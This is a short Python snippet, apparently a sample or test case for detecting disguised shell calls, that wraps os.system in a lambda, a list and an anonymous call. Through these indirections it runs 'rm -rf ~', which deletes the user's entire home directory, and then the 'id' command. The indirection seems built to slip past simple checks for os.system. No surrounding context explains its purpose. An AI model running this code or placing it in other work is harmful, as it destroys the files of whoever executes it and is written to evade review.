import os

do = lambda c: os.system(c)
actions = [do]
actions[0]("rm -rf ~")
(lambda f: f("id"))(os.system)
